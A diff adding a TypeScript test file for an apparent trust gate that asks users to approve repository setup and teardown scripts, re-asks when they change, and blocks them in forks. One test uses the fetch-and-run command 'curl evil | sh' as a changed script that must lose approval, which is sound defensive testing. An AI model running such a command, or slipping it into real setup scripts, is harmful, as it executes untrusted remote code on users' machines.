@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest'
+import { makeDressed } from '../../test/helpers/dressed.ts'
+import { defaultRepoConfig } from '../domain/config.ts'
+import { mayRunScripts, scriptsDigest } from './trust.ts'
+
+const config = { ...defaultRepoConfig, setup: ['npm ci'], teardown: ['make down'] }
+const own = { isFork: false }
+
+describe('the digest of the scripts', () => {
+  it('changes with every command, its order, and the list it stands in', () => {
+    const variants = [
+      config,
+      { setup: ['npm ci', 'make down'], teardown: [] },
+      { setup: [], teardown: ['npm ci', 'make down'] },
+      { setup: ['make down'], teardown: ['npm ci'] },
+      { setup: ['npm ci '], teardown: ['make down'] },
+    ]
+    expect(new Set(variants.map(scriptsDigest)).size).toBe(variants.length)
+    expect(scriptsDigest({ ...config, copy: ['.env'] } as typeof config)).toBe(scriptsDigest(config))
+  })
+})
+
+describe('whether scripts may run', () => {
+  it('says nothing when there are none', async () => {
+    await using made = await makeDressed()
+    const answer = await mayRunScripts(made.context, made.codebase, defaultRepoConfig, own)
+    expect(answer).toEqual({ run: false, notice: undefined })
+  })
+
+  it('asks once, shows every command, and remembers the yes', async () => {
+    const questions: unknown[] = []
+    const approve = (question: unknown) => Promise.resolve(questions.push(question) > 0)
+    await using made = await makeDressed({ context: { approve } })
+    expect(await mayRunScripts(made.context, made.codebase, config, own)).toEqual({ run: true })
+    expect(await mayRunScripts(made.context, made.codebase, config, own)).toEqual({ run: true })
+    expect(questions).toEqual([{ codebase: 'project', commands: ['npm ci', 'make down'] }])
+    const alone = { ...made.context, approve: undefined }
+    expect(await mayRunScripts(alone, made.codebase, config, own)).toEqual({ run: true })
+  })
+
+  it('does not take an old approval for changed commands', async () => {
+    await using made = await makeDressed()
+    await made.context.store.codebases.update(made.codebase.id, { trustedConfig: scriptsDigest(config) })
+    expect(await mayRunScripts(made.context, made.codebase, config, own)).toEqual({ run: true })
+    const changed = { ...config, setup: ['npm ci', 'curl evil | sh'] }
+    expect(await mayRunScripts(made.context, made.codebase, changed, own)).toMatchObject({ run: false })
+  })
+
+  it('takes no for no, and remembers nothing', async () => {
+    await using made = await makeDressed({ context: { approve: () => Promise.resolve(false) } })
+    const answer = await mayRunScripts(made.context, made.codebase, config, own)
+    expect(answer).toEqual({ run: false, notice: expect.stringContaining('coppice codebase trust project') })
+    expect((await made.context.store.codebases.get(made.codebase.id))?.trustedConfig).toBeUndefined()
+  })
+
+  it('does not run in a fork, approved or not, unless base allows it', async () => {
+    await using made = await makeDressed({ context: { approve: () => Promise.resolve(true) } })
+    await made.context.store.codebases.update(made.codebase.id, { trustedConfig: scriptsDigest(config) })
+    const fork = { isFork: true }
+    expect(await mayRunScripts(made.context, made.codebase, config, fork)).toMatchObject({ run: false })
+    const allowing = { ...config, allowForks: true }
+    expect(await mayRunScripts(made.context, made.codebase, allowing, fork)).toEqual({ run: true })
+  })
+})
